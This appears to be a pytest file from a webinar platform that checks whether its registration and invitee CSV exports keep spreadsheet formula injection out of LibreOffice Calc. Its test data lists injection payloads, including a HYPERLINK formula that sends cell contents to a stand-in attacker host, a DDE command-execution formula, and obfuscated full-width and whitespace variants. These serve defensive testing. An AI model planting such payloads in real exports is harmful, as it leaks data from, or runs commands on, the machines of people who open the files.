"""CSV files opened in LibreOffice: no cell is a formula, and each equals the entered value."""

import shutil

import pytest
from sqlalchemy import update

from tests.conftest import needs
from tests.questions.asking import ask
from tests.spreadsheet import AS_TEXT, BY_ITSELF, EAGER, Calc
from webinars.access.invitees import Recipient, send_invitations
from webinars.access.models import Invitee
from webinars.database import transaction
from webinars.registrations.models import Registration
from webinars.security import csv

# What is typed, and what stands in the cell.
FORMULAS = {
    "=1+1": "'=1+1",
    "+1+1": "'+1+1",
    "-1+1": "'-1+1",
    "@SUM(A1)": "'@SUM(A1)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\n=1+1",
    "\n=1+1": "'\n=1+1",
    " =1+1": "' =1+1",
    "\u200b=1+1": "'\u200b=1+1",
    "＝1+1": "'＝1+1",
    "＋1+1": "'＋1+1",
    "－1+1": "'－1+1",
    "＠SUM(A1)": "'＠SUM(A1)",
    '=HYPERLINK("https://evil.example/?"&B2,"Ann")': '\'=HYPERLINK("https://evil.example/?"&B2,"Ann")',
    '=DDE("cmd";"/c calc";"x")': '\'=DDE("cmd";"/c calc";"x")',
    '"=1+1': '"=1+1',
    '",=1+1,"': '",=1+1,"',
    'Ann"\r\n=1+1': 'Ann"\n=1+1',
    ";=1+1": ";=1+1",
}
WORDS = [
    'Ann "the best", O\'Neill',
    "two\nlines",
    "a\ttab",
    "  spaces  between  ",
    "رانيا الخطيب",
    "聯合國人權事務高級專員辦事處",
    "ann@example.org",
]
# What spreadsheets like to take for a number or a date.
NUMBERS = ["0041791234567", "12345678901234567890", "1e5", "3/4", "TRUE", "5%", "2027-07-16"]


@pytest.fixture(scope="module")
def calc(tmp_path_factory):
    """Return Debian's LibreOffice Calc."""
    program = shutil.which("soffice")
    needs(program, "LibreOffice Calc (libreoffice-calc-nogui)")
    return Calc(program, tmp_path_factory.mktemp("calc"))


@pytest.fixture(scope="module")
def entered():
    """Return entered texts and the expected values of their cells."""
    return {**FORMULAS, **{item: item for item in (*WORDS, *NUMBERS)}}


@pytest.fixture
def tables(signed_in, make_event, make_registration, entered):
    """Return the registrations and invitees CSV of an event with these texts as names."""
    event = make_event()
    ask(event, label="=1+1")
    people = [Recipient("Ann", f"{number}@example.org") for number, _ in enumerate(entered)]
    for item in people:
        make_registration(event, name=item.name, email=item.email)
    with transaction() as session:
        send_invitations(session, event_id=event.id, people=people, language="en")
        # As if no form had looked at it: forms take no tabs and line ends in a name.
        for item, text in zip(people, entered, strict=True):
            for table in (Registration, Invitee):
                of_them = table.email == item.email
                session.execute(update(table).where(of_them).values(name=text))
            of_them = Registration.email == item.email
            session.execute(update(Registration).where(of_them).values(affiliation=text))
    return [
        signed_in.get(f"/organise/events/{event.id}/{name}.csv").data
        for name in ("registrations", "invitees")
    ]


def test_quoted_cells_imported_as_text_equal_entered_values(calc, tables, entered):
    registrations, guests = calc.opened(tables, AS_TEXT)

    assert {cell.kind for row in (*registrations, *guests) for cell in row} == {"string", ""}
    assert column_values(registrations, 0) == column_values(guests, 0) == list(entered.values())
    assert column_values(registrations, 2) == list(entered.values())
    assert registrations[0][-1].text == "'=1+1"
    assert column_values(registrations, 4) == ["2026-11-25 10:00"] * len(entered)


@pytest.mark.parametrize("reads", [BY_ITSELF, EAGER], ids=["by itself", "eager"])
def test_no_import_setting_yields_formula(calc, tables, entered, reads):
    registrations, guests = calc.opened(tables, reads)

    assert {cell.formula for row in (*registrations, *guests) for cell in row} == {""}
    harmless = len(entered) - len(NUMBERS)
    for shown in (
        column_values(registrations, 0),
        column_values(registrations, 2),
        column_values(guests, 0),
    ):
        assert shown[:harmless] == list(entered.values())[:harmless]


def test_formula_in_control_table_is_detected(calc, monkeypatch):
    """The control: the same table without the apostrophe."""
    monkeypatch.setattr(csv, "escape_formula", lambda cell: cell)
    table = b"".join(csv.csv_lines([["Name"], *([item] for item in FORMULAS)]))

    [rows] = calc.opened([table], EAGER)

    assert [row[0].formula for row in rows if row[0].formula] == [
        "of:=1+1",
        'of:=HYPERLINK("https://evil.example/?"&[.B2];"Ann")',
        'of:=DDE("cmd";"/c calc";"x")',
    ]


def column_values(rows, column):
    """Return the values of a column below its heading."""
    return [row[column].text for row in rows[1:]]
